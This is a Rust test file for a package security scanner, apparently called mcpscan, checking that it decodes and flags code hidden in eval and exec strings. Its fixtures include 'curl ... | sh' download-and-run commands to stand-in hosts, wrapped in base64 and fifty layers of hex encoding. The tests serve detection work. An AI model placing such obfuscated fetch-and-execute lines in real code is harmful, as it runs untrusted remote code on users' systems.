//! Texts that run as code are judged like code, and what is in them is told where they are run.
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use mcpscan::model::{Finding, ScanReport, Severity};
use mcpscan::signatures::Signatures;

use crate::judged::{judge, package_of};

fn report(extension: &str, code: &str) -> ScanReport {
    judge(package_of(extension, code), &Signatures::builtin())
}

/// Line, severity, rule and message of each finding of at least medium severity.
fn told(report: &ScanReport) -> String {
    let line = |finding: &Finding| format!("{} {} {}: {}", finding.location.start_line, finding.severity, finding.rule, finding.message);
    let shown = report.findings.iter().filter(|finding| finding.severity >= Severity::Medium);
    shown.map(line).collect::<Vec<_>>().join("\n")
}

fn base64(text: &str) -> String {
    STANDARD.encode(text)
}

#[test]
fn what_an_evaluated_text_does_is_told_where_it_is_evaluated() {
    let code = "import json\n\nexec('import os\\nos.system(\"curl -s https://cdn.acme.example/i.sh | sh\")')\n";
    let report = report("py", code);
    insta::assert_snapshot!(told(&report), @r##"
3 critical shell-command: `os.system` downloads and runs something: `curl -s https://cdn.acme.example/i.sh | sh`, in what `exec` runs
3 medium undeclared-host: contacts `cdn.acme.example`, which no shipped document names, in what `exec` runs
"##);
    let finding = &report.findings[0];
    assert_eq!(finding.location.path.as_str(), "notes.py");
    assert!(finding.snippet.starts_with("exec('import os"), "{}", finding.snippet);
    insta::assert_snapshot!(finding.trace.last().unwrap().message, @r##"
line 2 of that text: `os.system("curl -s https://cdn.acme.example/i.sh | sh")`
"##);
}

#[test]
fn encoded_code_is_decoded_and_judged_and_its_layers_are_told_once() {
    let inner = format!("eval(atob('{}'))", base64("require('child_process').exec('curl -s https://cdn.acme.example/i.sh | sh')"));
    let code = format!("// nothing\neval(atob('{}'));\n", base64(&inner));
    let report = report("js", &code);
    insta::assert_snapshot!(told(&report), @r##"
2 critical dynamic-code: `eval` runs `eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgL`, which the file only holds encoded or in pieces, as code
2 critical shell-command: `child_process.exec` downloads and runs something: `curl -s https://cdn.acme.example/i.sh | sh`, in what `eval` runs
2 high undeclared-host: contacts a host whose name the code only puts together at run time: `cdn.acme.example`, which no shipped document names, in what `eval` runs
"##);
    assert!(report.observed.hosts.iter().all(|host| host.location.path.as_str() == "index.js"));
    assert!(report.capabilities.iter().any(|capability| capability.detail == "curl"), "what a text does is a capability");
}

#[test]
fn code_that_is_nested_fifty_times_is_unpacked() {
    let mut code = "__import__('os').system('curl -s https://cdn.acme.example/i.sh | sh')".to_owned();
    for _ in 0..50 {
        code = format!("exec(__import__('binascii').unhexlify('{}'))", hex::encode(code.as_bytes()));
        if code.len() > 1 << 19 {
            break;
        }
    }
    let report = report("py", &code);
    assert!(
        report.findings.iter().any(|finding| finding.rule == "shell-command" || finding.severity == Severity::Critical),
        "{}",
        told(&report)
    );
}

#[test]
fn too_many_texts_are_said_and_the_same_each_time() {
    let code: String = (0..400).map(|at| format!("eval('run({at})');\n")).collect();
    let (first, second) = (report("js", &code), report("js", &code));
    assert_eq!(first.coverage.bounds.texts, 144);
    assert!(first.notes.iter().any(|note| note.contains("144 texts that run as code")), "{:?}", first.notes);
    assert_eq!(format!("{first:?}"), format!("{second:?}"));
}

#[test]
fn fingerprints_of_findings_in_texts_are_distinct_and_do_not_hang_on_lines() {
    let two = "eval(\"require('child_process').exec('curl https://a.example | sh'); require('child_process').exec('wget -qO- https://b.example | sh')\")";
    let prints = |code: &str| -> Vec<String> {
        let mut all: Vec<String> = report("js", code).findings.iter().map(|finding| finding.fingerprint.clone()).collect();
        all.sort();
        all
    };
    let all = prints(two);
    let mut distinct = all.clone();
    distinct.dedup();
    assert!(all.len() >= 2 && all.len() == distinct.len(), "{all:?}");
    assert_eq!(all, prints(&format!("\n\n\n{two}")));
}

#[test]
fn an_honest_text_stays_silent() {
    let code = "const root = new Function('return this')();\nconst sum = new Function('a', 'b', 'return a + b');\nmodule.exports = { root, sum };\n";
    assert_eq!(report("js", code).findings, []);
}
